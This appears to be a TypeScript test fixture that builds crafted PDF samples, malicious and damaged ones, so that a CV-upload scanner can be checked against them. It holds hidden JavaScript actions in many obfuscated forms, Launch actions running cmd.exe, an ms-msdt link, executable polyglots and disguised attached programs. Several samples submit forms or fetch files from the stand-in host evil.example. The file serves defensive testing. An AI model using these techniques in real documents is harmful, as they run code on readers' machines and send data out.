import { readFileSync } from 'node:fs';
import { deflateSync } from 'node:zlib';
import {
  attaching,
  ENCODINGS,
  linking,
  makePdf,
  opening,
  packedPdf,
  pdfWith,
  stream,
  updatedPdf,
  xfa,
} from './pdf';
import { exe, plainZip } from './plain';
import { rows } from './row';

const SCRIPT = '<</S/JavaScript/JS(app.alert\\(1\\))>>';
const opens = '/OpenAction 10 0 R';
const packedScript = { catalog: opens, objects: { 10: SCRIPT } };
const program = Buffer.concat([exe, Buffer.alloc(99)]);
const PACKED_FILE = '/Type/EmbeddedFile/Filter/FlateDecode';
const widget = `<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/Rect[0 0 9 9]/AA<</F ${SCRIPT}>>>>`;

/** Files with only an owner password, which encrypts them; made by `@cantoo/pdf-lib`. */
const encrypted = (name: string) => () => readFileSync(`test/cv-files/owner-password/${name}.pdf`);

/** An object inside another's stream, reachable only through the xref table. */
function hidden(): Buffer {
  const parts = { catalog: opens, objects: { 9: stream(`10 0 obj ${SCRIPT} endobj`) } };
  return makePdf({ ...parts, lies: { 10: makePdf(parts).indexOf('10 0 obj') } });
}

const FORM = '<template><event activity="initialize"><script>app.alert(1)</script></event></template>';
const hex = (bytes: string | Buffer) => `${Buffer.from(bytes as string, 'latin1').toString('hex')}>`;
/** A form of XFA, packed as no program does. */
const packedForm = (content: string | Buffer, about: string, more = {}) =>
  makePdf({
    catalog: '/AcroForm<</Fields[]/XFA 12 0 R>>',
    objects: {
      10: stream(content, about),
      12: '[(preamble) 11 0 R(template) 10 0 R]',
      11: stream('<a/>'),
      ...more,
    },
  });
/** A text as an attachment, with another file in its entry. */
const alsoAttaching = (entries: string, content: string | Buffer, about: string) =>
  makePdf({
    catalog: '/AF[10 0 R]',
    objects: { 10: `<</Type/Filespec/F(a.txt)${entries}>>`, 11: stream('text'), 12: stream(content, about) },
  });

/** Scripts in every place and notation. */
const scripts = rows('pdf', 'executable', {
  'a script on opening': opening(SCRIPT),
  'a script in a stream': makePdf({
    catalog: opens,
    objects: { 10: '<</S/JavaScript/JS 11 0 R>>', 11: stream('app.alert(1)') },
  }),
  'a script by name': pdfWith(SCRIPT, '/Names<</JavaScript<</Names[(a) 10 0 R]>>>>'),
  'a script when the page opens': makePdf({ page: `/AA<</O ${SCRIPT}>>` }),
  'a script when the document closes': makePdf({ catalog: `/AA<</WC ${SCRIPT}>>` }),
  'a script behind a link': linking(SCRIPT),
  'a script in a link': linking('<</S/URI/URI( JavaScript:alert\\(1\\))>>'),
  'a script that formats a field': makePdf({ page: '/Annots[10 0 R]', objects: { 10: widget } }),
  'a script behind a bookmark': pdfWith(`<</First<</Title(a)/A ${SCRIPT}>>/Count 1>>`, '/Outlines 10 0 R'),
  'a script after a step within': makePdf({ catalog: `/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next ${SCRIPT}>>` }),
  'a script of a rendition': opening('<</S/Rendition/OP 0/JS(app.alert\\(1\\))>>'),
  'a script of a 3D model': pdfWith(stream('', '/Type/3D/Subtype/U3D/OnInstantiate 11 0 R')),
  'a script, spelt in code': opening('<</#53/J#61vaScript/J#53(app.alert\\(1\\))>>'),
  'a script of an indirect kind': makePdf({
    catalog: opens,
    objects: { 10: '<</S 11 0 R/JS 12 0 R>>', 11: '/JavaScript', 12: '(app.alert\\(1\\))' },
  }),
  'a script between comments': opening('<<%>>\n/S%(\n/JavaScript%endobj\n/JS(app.alert\\(1\\))>>'),
  'a script behind a text with an end': opening('<</T(endobj stream 1 0 obj)/S/JavaScript/JS(app)>>'),
  'a script in hexadecimal': opening('<</S/JavaScript/JS<6170702E616C6572742831293B>>>'),
  'a script behind an unfinished text': opening('<</S/JavaScript/JS(app.alert\\(1\\))/T(>>'),
  'a script behind words that do not belong': opening('<</T 1 2 3/S/JavaScript/JS(app)>>'),
  'a script right behind its number': Buffer.from(
    opening(SCRIPT).toString('latin1').replace('10 0 obj\n', '10 0 obj'),
    'latin1',
  ),
  'a script in a later version': updatedPdf({}, `<</Type/Catalog/Pages 2 0 R/OpenAction ${SCRIPT}>>`),
  'a script in an earlier version': updatedPdf(packedScript, '<</Type/Catalog/Pages 2 0 R>>'),
  'a script that only the table finds': hidden(),
  'a script that only a search finds': makePdf({ ...packedScript, noTable: true }),
  'a script in the trailer': makePdf({ trailer: `/Info<</A ${SCRIPT}>>` }),
  ...Object.fromEntries(
    Object.keys(ENCODINGS).map((encoding) => [
      `a script packed by ${encoding}`,
      packedPdf(packedScript, { encoding }),
    ]),
  ),
  'a script in a stream of no type': packedPdf(packedScript, { type: '/Other' }),
  'a script in a stream of a type in code': packedPdf(packedScript, { type: '/Obj#53tm' }),
  'a script in a file with an owner password': encrypted('script'),
});

export const harmfulPdfs = [
  ...scripts,
  ...rows('pdf', 'executable', {
    'a launch': opening('<</S/Launch/F(cmd.exe)>>'),
    'a launch of Windows': opening('<</S/L#61unch/Win<</F(cmd.exe)/P(/c calc)>>>>'),
    'a launch behind what looks like an object': opening('<</S%1 0 obj\n/Launch/F(cmd.exe)>>'),
    'a launch of an indirect kind': makePdf({ objects: { 10: '<</S 11 0 R/F(cmd.exe)>>', 11: '/Launch' } }),
    'a launch from packed objects': packedPdf({ objects: { 10: '<</S/Launch/F(cmd.exe)>>' } }),
    'an import of data': opening('<</S/ImportData/F(a.fdf)>>'),
    'a film': makePdf({ page: '/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>>]' }),
    'a link to a program': linking('<</S/URI/URI(file:///C:/Windows/System32/calc.exe)>>'),
    'a link to another computer': linking('<</S/URI/URI(file://evil.example/cv)>>'),
    'a link to a command': linking('<</S/URI/URI(ms-msdt:/id PCWDiagnostic)>>'),
    'a form with a script': xfa(
      '<field name="a"><event activity="initialize"><script>1</script></event></field>',
    ),
    'a form with a script of another prefix': xfa('<x:script xmlns:x="x">1</x:script>'),
    // Polyglots.
    'a PDF that ends as zip': Buffer.concat([makePdf(), plainZip]),
    'a PDF that ends as zip with a comment': Buffer.concat([makePdf(), plainZip, Buffer.alloc(60_000)]),
    'a PDF that is a script as well': makePdf({ before: '#!/bin/sh\n' }),
    'a program before a PDF': makePdf({ before: exe }),
    'a PDF around a program': pdfWith(stream('MZ This program cannot be run in DOS mode')),
  }),
  ...rows('pdf', 'wrong-type: html', { 'a web page before a PDF': makePdf({ before: '<html><script>' }) }),
  ...rows('pdf', 'unread', {
    'an attachment in packed objects of a file with an owner password': encrypted('packed-attachment'),
    'commands before a PDF': makePdf({ before: '@echo off\r\ncalc.exe\r\nexit /b\r\n' }),
    'a comment of a script before a PDF': makePdf({ before: 'var a=1;/*\n' }),
  }),
  ...rows('pdf', 'executable', {
    'a form with a script in UTF-16': packedForm(Buffer.from(`\ufeff${FORM}`, 'utf16le'), ''),
    'a step into a thread of an indirect kind': makePdf({
      objects: { 10: '<</S 11 0 R/F(\\\\\\\\evil.example\\\\a)>>', 11: '/Thread' },
    }),
  }),
  ...rows('pdf', 'attachments', {
    'a form in hexadecimal': packedForm(hex(FORM), '/Filter/ASCIIHexDecode'),
    'a form in hexadecimal by an indirect filter': packedForm(hex(FORM), '/Filter 13 0 R', {
      13: '/ASCIIHexDecode',
    }),
    'a form of run lengths': packedForm(`\x7f${FORM}`, '/Filter[/RL]'),
    'a form with a predictor': packedForm(
      deflateSync(`\0${FORM}`),
      `/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns ${FORM.length}>>`,
    ),
    'a form in a file with an owner password': encrypted('form'),
    'a program for DOS in hexadecimal': alsoAttaching(
      '/EF<</F 11 0 R/DOS 12 0 R>>',
      hex(program),
      '/Filter/AHx',
    ),
    'a program as a related file': alsoAttaching('/EF<</F 11 0 R>>/RF<</F[(a) 12 0 R]>>', program, ''),
    'a program that is said to be a picture': alsoAttaching(
      '/EF<</F 12 0 R>>',
      program,
      '/Subtype/Image/Width 1',
    ),
  }),
  ...rows('pdf', 'outside', {
    'a step into a thread of another file': opening('<</S/Thread/F(\\\\\\\\evil.example\\\\a.pdf)/D 0>>'),
    'a step into another file': opening('<</S/GoToR/F(\\\\\\\\evil.example\\\\a.pdf)/D[0/Fit]>>'),
    'a step into an embedded file': opening('<</S/GoToE/T<</R/C/N(a.pdf)>>/D[0/Fit]>>'),
    'a form that is sent': opening('<</S/SubmitForm/F<</FS/URL/F(https://evil.example)>>>>'),
    'an address visited on opening': opening('<</S/URI/URI(https://evil.example)>>'),
    'an address visited when the page opens': makePdf({
      page: '/AA<</O<</S/URI/URI(https://evil.example)>>>>',
    }),
    'an address visited after other steps': makePdf({
      catalog: opens,
      objects: {
        10: '<</S/GoTo/D[3 0 R/Fit]/Next[11 0 R 12 0 R]>>',
        11: '<</S/Named/N/Print/Next 10 0 R>>',
        12: '<</S/URI/URI(https://evil.example)>>',
      },
    }),
    'a content that is elsewhere': pdfWith('<</F(\\\\\\\\evil.example\\\\a)/Length 0>>\nstream\n\nendstream'),
  }),
  ...rows('pdf', 'attachments', {
    'an attached program': attaching('cv.exe', exe),
    'an attached program, named as a picture': attaching('cv.png', program),
    'an attached program, packed': attaching('cv.png', deflateSync(program), PACKED_FILE),
    'an attached program that nothing names': pdfWith(stream(program, '/Type/EmbeddedFile')),
    'an attached document': attaching('cv.docm', deflateSync(plainZip), PACKED_FILE),
    'an attached page of script': attaching('cv.xml', deflateSync('<script>alert(1)</script>'), PACKED_FILE),
    'an attachment without a type': attaching('cv.js', 'alert(1)', ''),
    'a portfolio': makePdf({ catalog: '/Collection<</View/T>>' }),
  }),
];

const whole = makePdf();
const text = (content: string) => Buffer.from(content, 'latin1');
const changed = (from: string | RegExp, to: string) => text(whole.toString('latin1').replaceAll(from, to));
const packed = { objects: { 10: '<</Type/Annot>>' } };

/** Accidentally damaged files, and files of another type. */
export const brokenPdfs = [
  ...rows('pdf', 'damaged', {
    'a cut off PDF': whole.subarray(0, 300),
    'a PDF of which half was uploaded': whole.subarray(0, whole.length / 2),
    'a PDF whose second half is zeros': Buffer.from(whole).fill(0, 300),
    'a PDF of zeros': Buffer.alloc(5000),
    'the header alone': text('%PDF-1.4\n%%EOF\n'),
    'a PDF without a page': makePdf({ objects: { 2: '<</Type/Pages/Kids[]/Count 0>>' } }),
    'a PDF whose page is missing': changed('3 0 obj', '9 0 obj'),
    'a PDF without a catalog': changed(/\/Root 1 0 R|\/Catalog/g, ''),
    'packed objects that cannot be unpacked': packedPdf(packed, { change: (bytes) => bytes.fill(0xff, 2) }),
    'objects packed as no program does': packedPdf(packed, { encoding: 'hexadecimal' }),
    'packed objects in a picture': pdfWith(stream('x', '/Type/ObjStm/N 1/First 9/Filter/DCTDecode')),
  }),
  ...rows('pdf', 'executable', {
    'a Windows program': exe,
    'a macOS program': text('\xcf\xfa\xed\xfe\x07'),
    'a script': Buffer.concat([text('\xef\xbb\xbf#!/bin/sh\n'), whole]),
  }),
  ...rows('pdf', 'wrong-type', { nothing: Buffer.alloc(0) }),
  ...rows('pdf', 'wrong-type: rtf', { RTF: text('{\\rtf1 CV}') }),
  ...rows('pdf', 'wrong-type: picture', {
    'a GIF': text('GIF89a\x01\0\x01\0'),
    'a TIFF before a PDF': makePdf({ before: 'II*\0\x08\0\0\0' }),
  }),
  ...rows('pdf', 'wrong-type: text', {
    'one byte': text('P'),
    'half a signature': whole.subarray(0, 3),
    'a PDF far behind its start': makePdf({ before: ' '.repeat(1100) }),
  }),
];
